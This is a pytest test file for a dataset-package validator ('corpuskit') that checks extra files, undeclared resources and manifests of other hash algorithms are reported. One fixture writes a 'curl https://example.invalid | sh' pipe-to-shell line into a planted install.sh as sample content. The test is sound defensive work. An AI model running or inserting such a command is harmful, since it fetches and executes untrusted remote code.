"""A package holds the files corpuskit writes and no others: an extra file, even listed in
the manifests with every checksum made to agree, is reported for the folder and the zip
(an ``install.sh``, a ``docs/`` folder or a ``data/notes.txt`` passed validate)."""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pytest
from _validate_support import built, resign, zip_of
from conftest import DIST, SEED_RELEASE

from corpuskit.validation import validate
from corpuskit.validation.descriptor import descriptor_resources
from corpuskit.validation.layout import TAG_FILES, layout_problems


def _resigned_with(tmp_path: Path, extra: dict[str, bytes]) -> Path:
    package = tmp_path / "folder" / built().release.name
    shutil.copytree(built().release, package)
    for rel, data in extra.items():
        (package / rel).parent.mkdir(parents=True, exist_ok=True)
        (package / rel).write_bytes(data)
    resign(package)
    return package


@pytest.mark.parametrize("rel", ["install.sh", "docs/x.txt", "data/notes.txt",
                                 "data/more/documents.jsonl", "Datapackage.json"])
def test_a_file_corpuskit_does_not_write_is_reported(tmp_path: Path, rel: str) -> None:
    package = _resigned_with(tmp_path, {rel: b"curl https://example.invalid | sh\n"})
    archive = zip_of(package, tmp_path)
    for target in (package, archive):
        for jobs in (1, 2):
            report = validate(target, jobs=jobs)
            found = [(p.path, p.code) for p in report.problems]
            assert (rel, "unexpected-file") in found, (target, report.problems)
            # A name that merges with datapackage.json on other systems is named too.
            assert len(found) == 1 or (rel == "Datapackage.json"
                                       and {code for _, code in found}
                                       == {"unexpected-file", "name-collision"}), found
            assert all("remove it, or restore the package" in p.message
                       for p in report.problems if p.code == "unexpected-file")


def test_records_as_parquet_that_no_resource_declares_are_reported(tmp_path: Path) -> None:
    package = tmp_path / "folder" / SEED_RELEASE.name  # it has Parquet
    shutil.copytree(SEED_RELEASE, package)
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    descriptor["resources"] = [r for r in descriptor["resources"]
                               if r["name"] != "documents-parquet"]
    (package / "datapackage.json").write_text(json.dumps(descriptor, indent=2) + "\n",
                                              encoding="utf-8")
    resign(package)
    for target in (package, zip_of(package, tmp_path)):
        problems = validate(target, jobs=1).problems
        [undeclared] = [p for p in problems if p.path == "data/documents.parquet"]
        assert undeclared.code == "unexpected-file"
        assert "no resource of datapackage.json declares this file" in undeclared.message
        # croissant.json and the card still describe it: they disagree with the descriptor.
        assert {p.code for p in problems if p is not undeclared} <= {"metadata-mismatch"}


def test_the_files_corpuskit_writes_fit_the_layout() -> None:
    for release in (built().release, *(path for path in DIST.iterdir() if path.is_dir())):
        files = [p.relative_to(release).as_posix() for p in release.rglob("*") if p.is_file()]
        descriptor = json.loads((release / "datapackage.json").read_text(encoding="utf-8"))
        resources, _ = descriptor_resources(descriptor)
        assert layout_problems(files, resources) == []
        assert {rel for rel in files if "/" not in rel and "manifest" not in rel} == TAG_FILES
    # BagIt tools may add manifests of other algorithms: those are BagIt's, not extra files
    # (one of an algorithm not verified is refused as BagIt's: see below).
    assert layout_problems(["manifest-md5.txt", "tagmanifest-sha512.txt",
                            "manifest-sha3_256.txt", "manifest-shake_128.txt"], []) == []


def _with_manifest(tmp_path: Path, name: str, algorithm: str) -> Path:
    """The built package with manifest ``name`` added as another BagIt tool adds one,
    made with ``algorithm`` (sha256 where it has none), and the tag manifest signed again."""
    package = _resigned_with(tmp_path, {})
    tag = name.startswith("tagmanifest-")
    files = sorted(p.relative_to(package).as_posix() for p in package.rglob("*")
                   if p.is_file() and p.name != name)
    covered = [rel for rel in files if rel.startswith("data/") is not tag
               and not rel.startswith("tagmanifest-")]

    def digest(rel: str) -> str:
        return hashlib.new(algorithm if algorithm in hashlib.algorithms_guaranteed
                           and not algorithm.startswith("shake_") else "sha256",
                           (package / rel).read_bytes()).hexdigest()

    (package / name).write_text("".join(f"{digest(rel)}  {rel}\n" for rel in covered))
    if not tag:
        resign(package)  # the tag manifest lists the payload manifest
    return package


@pytest.mark.parametrize("name", ["manifest-sha384.txt", "manifest-sha3_256.txt",
                                  "manifest-blake2b.txt", "manifest-md5.txt",
                                  "tagmanifest-sha224.txt"])
def test_a_manifest_of_any_algorithm_hashlib_guarantees_is_verified(
        tmp_path: Path, name: str) -> None:
    """RFC 8493 allows a manifest of any algorithm, and bagit-python verifies those of
    hashlib.algorithms_guaranteed: so does validate (QA: an added sha384 manifest was
    refused as of an unknown algorithm, where md5, sha1 and sha512 ones were verified)."""
    algorithm = name.split("-", 1)[1].removesuffix(".txt")
    package = _with_manifest(tmp_path, name, algorithm)
    assert validate(package, jobs=1).problems == ()
    assert validate(zip_of(package, tmp_path), jobs=1).problems == ()
    lines = (package / name).read_text().splitlines(keepends=True)
    lines[0] = ("0" if lines[0][0] != "0" else "1") + lines[0][1:]
    (package / name).write_text("".join(lines))
    if not name.startswith("tagmanifest-"):
        resign(package)
    [problem] = validate(package, jobs=1).problems
    assert problem.code == "checksum-mismatch" and problem.path == lines[0].split("  ")[1][:-1]
    assert problem.message.startswith(f"{algorithm} is ") and f"{name} (line 1)" in problem.message


@pytest.mark.parametrize(("name", "says"), [
    ("manifest-shake_128.txt", "'shake_128' gives digests of any length"),
    ("manifest-crc32.txt", "'crc32' is not one a manifest is verified with (hashlib's: "
                           "blake2b, blake2s, md5, sha1, sha224, sha256, sha384, sha3_224, "
                           "sha3_256, sha3_384, sha3_512, sha512)"),
    ("manifest-SHA384.txt", "in lower case, as BagIt names it, 'sha384' is one"),
])
def test_a_manifest_of_another_algorithm_is_refused_saying_what_to_do(
        tmp_path: Path, name: str, says: str) -> None:
    package = _with_manifest(tmp_path, name, name.split("-", 1)[1].removesuffix(".txt"))
    for target in (package, zip_of(package, tmp_path)):
        [problem] = validate(target, jobs=1).problems
        assert (problem.path, problem.code) == (name, "bagit-error")
        assert says in problem.message
        assert problem.message.endswith("not verified, and corpuskit writes no such "
                                        "manifest: remove it, or restore the package from "
                                        "its release")


def test_a_manifest_of_blank_lines_is_read_up_to_its_cap_and_still_hashed_whole(
        tmp_path: Path) -> None:
    """Lines that add no entry count toward a manifest's cap (files + 1,000), so time is
    bounded by the package's files, not by a compressible blob (QA: 20 million blank
    lines took 80 s); the lines not read are still hashed, so the tag manifest's sha256 of
    the file is not said to differ."""
    package = _with_manifest(tmp_path, "manifest-md5.txt", "md5")
    with (package / "manifest-md5.txt").open("a") as handle:
        handle.write("\n" * 2_500_000)  # more than one read chunk
    resign(package)
    cap = sum(1 for p in package.rglob("*") if p.is_file()) + 1_000
    for target in (package, zip_of(package, tmp_path)):
        problems = validate(target, jobs=1).problems
        assert {(p.path, p.code) for p in problems} == {("manifest-md5.txt", "bagit-error")}
        assert len(problems) <= cap + 1
        assert (f"more than {cap} lines; not read further", f"line {cap + 1}") == (
            problems[-1].message, problems[-1].location)


@pytest.mark.parametrize(("edit", "says"), [
    ("tab", "checksum and path are separated by '\\t ', not two spaces"),
    ("capital", "the checksum is in capitals"),
    ("crlf", "the line ends in CR LF, not LF"),
])
def test_an_added_tag_manifest_is_held_to_the_form_of_corpuskits_own(
        tmp_path: Path, edit: str, says: str) -> None:
    """No checksum covers a tag manifest of another algorithm either, so one changed byte of
    it must not pass: it is held to the exact form corpuskit writes its own tag manifest in
    (QA: a separator changed to a TAB or a digit to a capital in tagmanifest-md5.txt
    passed)."""
    name = "tagmanifest-md5.txt"
    package = _with_manifest(tmp_path, name, "md5")
    assert validate(package, jobs=1).problems == ()
    data = bytearray((package / name).read_bytes())
    if edit == "tab":
        data[data.index(b"  ")] = ord("\t")
    elif edit == "capital":
        data[next(i for i, c in enumerate(data) if c in b"abcdef")] -= 32
    else:
        data[data.index(b"\n"):data.index(b"\n") + 1] = b"\r\n"
    (package / name).write_bytes(bytes(data))
    [problem] = validate(package, jobs=1).problems
    assert (problem.path, problem.code, problem.location) == (name, "bagit-error", "line 1")
    assert problem.message == (f"{says} (a tag manifest no checksum covers is held to the "
                               "form corpuskit writes its own in: '<md5>  <path>' lines "
                               "ending in LF, sorted)")
